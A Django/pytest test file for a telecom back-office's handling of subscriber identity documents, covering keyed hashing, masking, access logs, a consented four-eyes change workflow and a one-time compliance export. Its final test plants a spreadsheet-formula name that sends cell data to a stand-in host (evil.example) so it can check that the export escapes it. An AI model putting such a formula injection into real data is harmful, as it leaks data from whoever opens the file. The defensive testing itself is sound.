"""Identity data cannot be read by staff; a holder's identity and contacts change only with
their consent and four eyes; the documents leave only through a four-eyes compliance export."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import subprocess
import sys
from urllib.parse import urlencode

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import override_settings
from django.urls import reverse

from audit.choices import AccessKind
from audit.models import AccessEvent
from numbers import services
from numbers.choices import IdentityDocumentType, IdentityExportState, NumberStatus, SubscriberChangeState
from numbers.identity import (
    document_hash,
    document_last4,
    document_matches,
    normalize_document_number,
    seal_document,
    unseal_document,
)
from numbers.models import IdentityExport, MobileNumber, Subscriber, SubscriberChangeRequest
from numbers.selectors import number_list, number_search
from sms.choices import SmsPurpose
from sms.models import SmsMessage
from tests.factories import SubscriberFactory, document_of, number_in_state
from tests.helpers import code_sent_to, refused, with_sms

pytestmark = pytest.mark.django_db

DOCUMENT = "N0123456"  # the holder fixture's card
SUBSCRIBERS = reverse("admin:numbers_subscriber_changelist")


@pytest.fixture
def capture(django_capture_on_commit_callbacks):
    return django_capture_on_commit_callbacks


def subscriber_url(subscriber) -> str:
    return reverse("admin:numbers_subscriber_change", args=[subscriber.pk])


def row_values(subscriber) -> str:
    """Everything stored for the subscriber and its history, as one string."""
    row = Subscriber.objects.filter(pk=subscriber.pk).values().get()
    history = list(Subscriber.history.filter(id=subscriber.pk).values())
    return repr(row) + repr(history)


# --- The crypto -------------------------------------------------------------------------------


def test_the_hash_is_keyed_normalized_and_not_the_plain_sha256():
    assert document_hash("n-012 3456") == document_hash(DOCUMENT)
    assert document_hash(DOCUMENT) != hashlib.sha256(DOCUMENT.encode()).hexdigest()
    with override_settings(IDENTITY_HASH_KEY="another-key"):
        assert document_hash(DOCUMENT) != hashlib.sha256(DOCUMENT.encode()).hexdigest()
        other = document_hash(DOCUMENT)
    assert other != document_hash(DOCUMENT)


def test_last_characters_and_the_seal():
    assert document_last4(" kh-0012 345678") == "5678"
    assert document_last4("AB1") == "1"
    sealed = seal_document("n-0123456")
    assert DOCUMENT not in sealed
    assert unseal_document(sealed) == DOCUMENT
    assert seal_document(DOCUMENT) != sealed  # a fresh token each time


def test_a_rotated_sealing_key_still_opens_old_seals(settings):
    sealed = seal_document(DOCUMENT)
    settings.IDENTITY_ENCRYPTION_KEY = (
        f"{'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY='},{settings.IDENTITY_ENCRYPTION_KEY}"
    )
    assert unseal_document(sealed) == DOCUMENT


def test_document_matches_by_type_and_hash(holder):
    assert document_matches(holder, IdentityDocumentType.NATIONAL_ID, "n0-123 456")
    assert not document_matches(holder, IdentityDocumentType.NATIONAL_ID, "N0123457")
    assert not document_matches(holder, IdentityDocumentType.PASSPORT, DOCUMENT)
    assert not document_matches(holder, IdentityDocumentType.NATIONAL_ID, " - ")
    assert not document_matches(holder, IdentityDocumentType.NATIONAL_ID, holder.id_document_last4)


@pytest.mark.parametrize("missing", ["IDENTITY_HASH_KEY", "IDENTITY_ENCRYPTION_KEY"])
def test_production_refuses_to_start_without_the_identity_keys(missing):
    """DEBUG off is production (backoffice/tests/test_settings.py tests every key)."""
    env = {
        **os.environ,
        "DJANGO_DEBUG": "0",
        "DJANGO_SECRET_KEY": "x" * 50,
        "IDENTITY_HASH_KEY": "a-production-identity-hash-key-of-40-chars",
        "IDENTITY_ENCRYPTION_KEY": "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY=",
    }
    env.pop(missing)
    result = subprocess.run(  # noqa: S603
        [sys.executable, "-c", "import backoffice.settings"], env=env, capture_output=True, text=True, check=False
    )
    assert result.returncode != 0
    assert f"{missing} is not set" in result.stderr


# --- Stored: never readable ---------------------------------------------------------------------


def test_a_registered_subscriber_keeps_no_readable_number_in_row_or_history(agent_a):
    subscriber = services.subscriber_create(
        full_name="Walk In", id_document_type="passport", id_document_number="p 765-4321", actor=agent_a, reason="new"
    )
    assert "P7654321" not in row_values(subscriber)
    assert subscriber.id_document_hash == document_hash("P7654321")
    assert subscriber.masked_document == "••••4321"
    record = Subscriber.history.get(id=subscriber.pk)
    assert (record.id_document_hash, record.id_document_last4) == (subscriber.id_document_hash, "4321")
    assert not hasattr(record, "id_document_sealed")


def test_a_duplicate_document_is_refused_by_hash(agent_a, holder):
    error = refused(
        ValidationError,
        lambda: services.subscriber_create(
            full_name="Impostor",
            id_document_type="national_id",
            id_document_number="n0-123456",
            actor=agent_a,
            reason="x",
        ),
    )
    assert "already exists" in " ".join(error.messages)


# --- Search by a whole number, never by a part ---------------------------------------------------


def test_admin_subscriber_search_finds_a_whole_document_number_only(client, agent_a, holder):
    other = SubscriberFactory(id_document_number="N0123457")
    client.force_login(agent_a)
    found = client.get(SUBSCRIBERS + "?" + urlencode({"q": "n0 123-456"}))
    assert [row.pk for row in found.context["cl"].result_list] == [holder.pk]
    page = found.content.decode()
    assert DOCUMENT not in page
    assert "••••3456" in page
    for part in ("3456", "N01234", "N012345"):
        partial = client.get(SUBSCRIBERS + "?" + urlencode({"q": part}))
        assert holder not in partial.context["cl"].result_list
        assert other not in partial.context["cl"].result_list


def test_number_search_finds_the_holders_numbers_by_a_whole_document(agent_a, active, holder):
    found = number_search(queryset=number_list(user=agent_a), term=DOCUMENT.lower())
    assert list(found) == [active]
    assert list(number_search(queryset=number_list(user=agent_a), term="3456")) == []


# --- Nothing on screen shows more than the last characters ----------------------------------------


def test_no_staff_screen_shows_the_document(client, admin_user, auditor, agent_a, active, holder):
    services.subscriber_update(subscriber=SubscriberFactory(), actor=admin_user, reason="touch", full_name="X Y")
    pages = {}
    client.force_login(admin_user)
    pages["change page"] = client.get(subscriber_url(holder))
    # Typed with spaces and dashes: the page echoes what was typed, never the record's number.
    pages["list search"] = client.get(SUBSCRIBERS + "?" + urlencode({"q": "n0-123 456"}))
    assert [row.pk for row in pages["list search"].context["cl"].result_list] == [holder.pk]
    pages["history"] = client.get(reverse("admin:numbers_subscriber_history", args=[holder.pk]))
    pages["history record"] = client.get(
        reverse(
            "admin:numbers_subscriber_simple_history",
            args=[holder.pk, Subscriber.history.filter(id=holder.pk).latest().history_id],
        )
    )
    pages["number page"] = client.get(reverse("admin:numbers_mobilenumber_change", args=[active.pk]))
    client.force_login(auditor)
    pages["audit object"] = client.get(reverse("audit:object", args=["numbers.subscriber", holder.pk]))
    review = "?" + urlencode({"employee": agent_a.pk})
    pages["review"] = client.get(reverse("audit:review") + review)
    csv_response = client.get(reverse("audit:export-csv") + review)
    pdf_response = client.get(reverse("audit:export-pdf") + review)
    for name, response in pages.items():
        assert response.status_code == 200, name
        content = response.content.decode()
        assert DOCUMENT not in content, name
        assert holder.id_document_sealed not in content, name
    assert csv_response.status_code == pdf_response.status_code == 200
    text = b"".join(csv_response.streaming_content).decode()
    assert DOCUMENT not in text
    from pypdf import PdfReader

    pdf = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf_response.content)).pages)
    assert DOCUMENT not in pdf.replace(" ", "")


# --- The access log names who looked at a subscriber ---------------------------------------------


def test_viewing_a_subscriber_is_in_the_access_log(client, agent_a, holder):
    client.force_login(agent_a)
    response = client.get(subscriber_url(holder))
    assert response.status_code == 200
    event = AccessEvent.objects.get(kind=AccessKind.SUBSCRIBER)
    assert (event.user, event.subscriber, event.username) == (agent_a, holder, "agent_a")
    assert event.history_request_id == response["X-Request-ID"]


def test_history_pages_and_the_audit_object_page_are_views_too(client, admin_user, auditor, holder):
    client.force_login(admin_user)
    client.get(reverse("admin:numbers_subscriber_history", args=[holder.pk]))
    client.force_login(auditor)
    client.get(reverse("audit:object", args=["numbers.subscriber", holder.pk]))
    events = AccessEvent.objects.filter(kind=AccessKind.SUBSCRIBER, subscriber=holder).order_by("id")
    assert [event.user for event in events] == [admin_user, auditor]


def test_the_subscriber_list_is_a_view_of_each_subscriber_listed(client, agent_a, holder):
    """Each row shows a masked document and a contact number: a view of that subscriber's details."""
    client.force_login(agent_a)
    response = client.get(SUBSCRIBERS)
    events = AccessEvent.objects.filter(kind=AccessKind.SUBSCRIBER)
    assert list(events.values_list("user", "subscriber", "history_request_id")) == [
        (agent_a.pk, holder.pk, response["X-Request-ID"])
    ]


# --- A holder's details change only by a consented, four-eyes request ------------------------------

HOLDER_CHANGES = [
    {"full_name": "Someone Else"},
    {"contact_msisdn": "+85516000111"},
    {"alternate_msisdn": "+85516000112"},
    {"id_document_number": "Z9999999"},
    {"id_document_type": IdentityDocumentType.PASSPORT},
]


@pytest.mark.parametrize("changes", HOLDER_CHANGES)
@pytest.mark.parametrize("persona", ["agent_a", "supervisor_a", "admin_user"])
def test_a_holders_identity_and_contacts_are_not_changed_directly(request, persona, active, holder, changes):
    actor = request.getfixturevalue(persona)
    before = row_values(holder)
    error = refused(
        ValidationError, lambda: services.subscriber_update(subscriber=holder, actor=actor, reason="x", **changes)
    )
    assert "change request" in " ".join(error.messages)
    assert row_values(holder) == before


def test_a_subscriber_holding_nothing_is_still_corrected_directly(agent_a, supervisor_a, branch_a):
    subscriber = SubscriberFactory(registered_branch=branch_a, id_document_number="A1234567")
    services.subscriber_update(subscriber=subscriber, actor=agent_a, reason="typo", full_name="Fixed Name")
    refused(
        PermissionDenied,
        lambda: services.subscriber_update(subscriber=subscriber, actor=agent_a, reason="x", id_document_number="B1"),
    )
    services.subscriber_update(subscriber=subscriber, actor=supervisor_a, reason="card", id_document_number="B7654321")
    subscriber.refresh_from_db()
    assert subscriber.full_name == "Fixed Name"
    assert (document_of(subscriber), subscriber.id_document_last4) == ("B7654321", "4321")


def test_the_admin_page_of_a_holder_is_read_only_for_name_document_and_contact(client, agent_a, active, holder):
    client.force_login(agent_a)
    page = client.get(subscriber_url(holder)).content.decode()
    assert 'name="full_name"' not in page
    assert 'name="contact_msisdn"' not in page
    assert 'name="id_document_number"' not in page
    assert reverse("admin:numbers_subscriber_change_details", args=[holder.pk]) in page
    response = client.post(
        subscriber_url(holder),
        {
            "full_name": "Taken Over",
            "contact_msisdn": "+85516000111",
            "id_document_number": "Z9999999",
            "id_document_type": IdentityDocumentType.NATIONAL_ID,
            "change_reason": "x",
            "holdings-TOTAL_FORMS": "0",
            "holdings-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code in (200, 302)
    holder.refresh_from_db()
    assert holder.full_name == "Rightful Holder"
    assert document_matches(holder, IdentityDocumentType.NATIONAL_ID, DOCUMENT)


@pytest.fixture(autouse=True)
def _phone(handset):
    """Codes reach the holder's handset; the outbox keeps them masked."""
    return handset


def sent_code(messages) -> str:
    """The code as the holder reads it on their phone."""
    (message,) = [m for m in messages if m.purpose == SmsPurpose.CONSENT_CODE]
    assert not re.search(r"\b\d{6}\b", message.body), "the outbox keeps the code masked"
    return code_sent_to(message.to_msisdn)


def ask(capture, actor, holder, number, **changes):
    return with_sms(
        capture,
        lambda: services.subscriber_change_request(
            subscriber=holder, code_to=number.msisdn, actor=actor, reason="holder at the counter", **changes
        ),
    )


def test_a_change_request_texts_the_code_to_a_held_number_and_tells_old_contact_and_held_numbers(
    capture, agent_a, branch_a, active, holder
):
    second = number_in_state(NumberStatus.ACTIVE, actor=agent_a, branch=branch_a, subscriber=holder)
    old_contact = holder.contact_msisdn
    change, sent = ask(capture, agent_a, holder, active, contact_msisdn="+85516000111", id_document_number="Z9999999")
    assert change.state == SubscriberChangeState.AWAITING_CONSENT
    assert change.changed_fields.split(",") == sorted(
        ["contact_msisdn", "id_document_hash", "id_document_last4", "id_document_sealed", "id_document_type"]
    )
    codes = [m for m in sent if m.purpose == SmsPurpose.CONSENT_CODE]
    assert [m.to_msisdn for m in codes] == [active.msisdn]
    told = {m.to_msisdn for m in sent if m.purpose == SmsPurpose.NOTICE}
    assert told == {old_contact, active.msisdn, second.msisdn}
    assert "Z9999999" not in repr(SubscriberChangeRequest.history.filter(id=change.pk).values())
    assert "new_document_sealed" not in {f.name for f in SubscriberChangeRequest.history.model._meta.fields}
    holder.refresh_from_db()
    assert holder.contact_msisdn == old_contact  # nothing applied yet


def test_a_change_request_is_refused_for_a_non_holder_or_a_number_they_do_not_hold(capture, agent_a, branch_a, holder):
    error = refused(
        ValidationError,
        lambda: services.subscriber_change_request(
            subscriber=holder, code_to="+85512000000", actor=agent_a, reason="x", full_name="New"
        ),
    )
    assert "holds no number" in " ".join(error.messages)
    elsewhere = number_in_state(NumberStatus.ACTIVE, actor=agent_a, branch=branch_a)
    number_in_state(NumberStatus.ACTIVE, actor=agent_a, branch=branch_a, subscriber=holder)
    error = refused(
        ValidationError,
        lambda: services.subscriber_change_request(
            subscriber=holder, code_to=elsewhere.msisdn, actor=agent_a, reason="x", full_name="New"
        ),
    )
    assert "numbers the subscriber holds" in " ".join(error.messages)
    assert not SubscriberChangeRequest.objects.exists()


def test_a_wrong_code_is_counted_and_consents_nothing(capture, agent_a, active, holder):
    change, sent = ask(capture, agent_a, holder, active, full_name="New Name")
    code = sent_code(sent)
    wrong = f"{(int(code) + 1) % 10**6:06d}"
    with pytest.raises(ValidationError, match="Wrong code"):
        services.subscriber_change_consent(change=change, code=wrong, actor=agent_a, reason="read back")
    change.refresh_from_db()
    assert (change.state, change.code_attempts, change.consented_at) == (
        SubscriberChangeState.AWAITING_CONSENT,
        1,
        None,
    )


@pytest.fixture
def consented(capture, agent_a, active, holder):
    change, sent = ask(capture, agent_a, holder, active, full_name="New Name", id_document_number="Z9999999")
    services.subscriber_change_consent(change=change, code=sent_code(sent), actor=agent_a, reason="read back")
    change.refresh_from_db()
    assert change.state == SubscriberChangeState.AWAITING_APPROVAL
    return change


@pytest.mark.parametrize(
    ("persona", "why"),
    [
        ("agent_a", "no authority"),
        ("agent_b", "no authority"),
        ("supervisor_b", "no authority"),
        ("admin_user", "Superuser"),
    ],
)
def test_approval_is_refused_to_all_but_a_supervisor_of_the_branch(request, consented, holder, persona, why):
    actor = request.getfixturevalue(persona)
    before = row_values(holder)
    error = refused(
        PermissionDenied, lambda: services.subscriber_change_approve(change=consented, actor=actor, reason="ok")
    )
    assert why in str(error)
    assert row_values(holder) == before


def test_the_requester_cannot_approve_their_own_change(capture, supervisor_a, active, holder):
    change, sent = ask(capture, supervisor_a, holder, active, full_name="New Name")
    services.subscriber_change_consent(change=change, code=sent_code(sent), actor=supervisor_a, reason="read back")
    error = refused(
        PermissionDenied, lambda: services.subscriber_change_approve(change=change, actor=supervisor_a, reason="ok")
    )
    assert "You made this request" in str(error)


def test_approval_without_the_holders_code_is_refused(capture, agent_a, supervisor_a, active, holder):
    change, _ = ask(capture, agent_a, holder, active, full_name="New Name")
    error = refused(
        PermissionDenied, lambda: services.subscriber_change_approve(change=change, actor=supervisor_a, reason="ok")
    )
    assert "awaiting the holder's code" in str(error)


def test_a_supervisor_of_the_branch_approves_and_the_change_applies(consented, supervisor_a, holder):
    services.subscriber_change_approve(change=consented, actor=supervisor_a, reason="card checked")
    holder.refresh_from_db()
    consented.refresh_from_db()
    assert holder.full_name == "New Name"
    assert document_matches(holder, IdentityDocumentType.NATIONAL_ID, "Z9999999")
    assert holder.id_document_last4 == "9999"
    assert (consented.state, consented.decided_by) == (SubscriberChangeState.APPROVED, supervisor_a)
    record = Subscriber.history.filter(id=holder.pk).latest()
    assert record.history_user == supervisor_a
    assert consented.reference in record.history_change_reason
    refused(
        ValidationError, lambda: services.subscriber_change_reject(change=consented, actor=supervisor_a, reason="x")
    )


def test_the_requester_withdraws_or_a_supervisor_rejects(consented, agent_a, agent_b, holder):
    refused(PermissionDenied, lambda: services.subscriber_change_reject(change=consented, actor=agent_b, reason="x"))
    services.subscriber_change_reject(change=consented, actor=agent_a, reason="customer changed their mind")
    consented.refresh_from_db()
    holder.refresh_from_db()
    assert consented.state == SubscriberChangeState.REJECTED
    assert holder.full_name == "Rightful Holder"


def test_the_change_screens_work_end_to_end(client, capture, agent_a, supervisor_a, active, holder):
    client.force_login(agent_a)
    url = reverse("admin:numbers_subscriber_change_details", args=[holder.pk])
    assert client.get(url).status_code == 200
    seen = list(SmsMessage.objects.values_list("pk", flat=True))
    with capture(execute=True):
        response = client.post(
            url,
            {
                "full_name": "Rightful Holder",
                "id_document_type": IdentityDocumentType.NATIONAL_ID,
                "contact_msisdn": "016 000 111",
                "alternate_msisdn": "",
                "code_to": active.msisdn,
                "reason": "holder moved to a new contact number",
            },
        )
    change = SubscriberChangeRequest.objects.get()
    assert response.status_code == 302
    assert change.fields == ["contact_msisdn"]
    code = sent_code(SmsMessage.objects.exclude(pk__in=seen))
    consent = reverse("admin:numbers_subscriberchangerequest_consent", args=[change.pk])
    assert client.post(consent, {"code": code, "reason": "read back"}).status_code == 302
    client.force_login(supervisor_a)
    page = client.get(reverse("admin:numbers_subscriberchangerequest_change", args=[change.pk])).content.decode()
    approve = reverse("admin:numbers_subscriberchangerequest_approve", args=[change.pk])
    assert approve in page
    assert client.post(approve, {"reason": "checked"}).status_code == 302
    holder.refresh_from_db()
    assert holder.contact_msisdn == "+85516000111"


# --- The compliance export: four eyes, delivered once ------------------------------------------


@pytest.fixture
def export(supervisor_a, holder):
    return services.identity_export_request(subscribers=[holder], actor=supervisor_a, reason="SIM registration audit")


@pytest.mark.parametrize(
    ("persona", "why"),
    [("supervisor_a", "You asked"), ("admin_user", "Superuser"), ("agent_a", "no authority")],
)
def test_the_export_is_refused_to_the_requester_a_superuser_and_an_agent(request, export, persona, why):
    actor = request.getfixturevalue(persona)
    error = refused(PermissionDenied, lambda: services.identity_export_approve(export=export, actor=actor, reason="x"))
    assert why in str(error)
    export.refresh_from_db()
    assert export.state == IdentityExportState.REQUESTED


def test_an_agent_cannot_ask_for_an_export(agent_a, holder):
    refused(PermissionDenied, lambda: services.identity_export_request(subscribers=[holder], actor=agent_a, reason="x"))
    assert not IdentityExport.objects.exists()


def test_a_second_employee_receives_the_documents_once(export, auditor, supervisor_b, holder, active):
    content = services.identity_export_approve(export=export, actor=auditor, reason="regulator's request 12/2026")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert rows == [
        {
            "subscriber_id": str(holder.pk),
            "full_name": holder.full_name,
            "document_type": holder.id_document_type,
            "document_number": DOCUMENT,
            "held_numbers": rows[0]["held_numbers"],
        }
    ]
    assert MobileNumber.objects.get(pk=active.pk).msisdn[-6:] in rows[0]["held_numbers"].replace(" ", "")
    export.refresh_from_db()
    assert (export.state, export.approved_by) == (IdentityExportState.DELIVERED, auditor)
    assert [r.history_user for r in IdentityExport.history.filter(id=export.pk).order_by("history_id")] == [
        export.requested_by,
        auditor,
    ]
    assert DOCUMENT not in repr(IdentityExport.history.filter(id=export.pk).values())
    refused(ValidationError, lambda: services.identity_export_approve(export=export, actor=supervisor_b, reason="x"))


def test_the_export_screen_downloads_once(client, export, auditor):
    client.force_login(auditor)
    url = reverse("admin:numbers_identityexport_approve", args=[export.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, {"reason": "regulator's request"})
    assert response["Content-Type"].startswith("text/csv")
    assert DOCUMENT in response.content.decode()
    again = client.post(url, {"reason": "again"})
    assert DOCUMENT not in again.content.decode()


def test_normalize_is_the_one_used_everywhere():
    assert normalize_document_number(" ab-12 3 ") == "AB123"


def test_the_subscriber_autocomplete_finds_a_whole_number_and_shows_it_masked(client, agent_a, holder):
    client.force_login(agent_a)
    url = reverse("admin:autocomplete")
    params = {"app_label": "numbers", "model_name": "mobilenumber", "field_name": "holder"}
    found = client.get(url, {**params, "term": "n0 123456"})
    assert found.status_code == 200
    results = found.json()["results"]
    assert [r["id"] for r in results] == [str(holder.pk)]
    assert "••••3456" in results[0]["text"]
    assert DOCUMENT not in found.content.decode()
    assert client.get(url, {**params, "term": "3456"}).json()["results"] == []


def test_a_name_that_is_a_formula_is_exported_as_text(supervisor_a, auditor, holder):
    """A subscriber named like a spreadsheet formula cannot run it on the reviewer's machine."""
    holder.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    holder.save(update_fields=["full_name"])
    export = services.identity_export_request(subscribers=[holder], actor=supervisor_a, reason="SIM registration audit")
    content = services.identity_export_approve(export=export, actor=auditor, reason="regulator's request")
    (row,) = csv.DictReader(io.StringIO(content))
    assert row["full_name"] == "'" + holder.full_name
    assert row["subscriber_id"] == str(holder.pk)
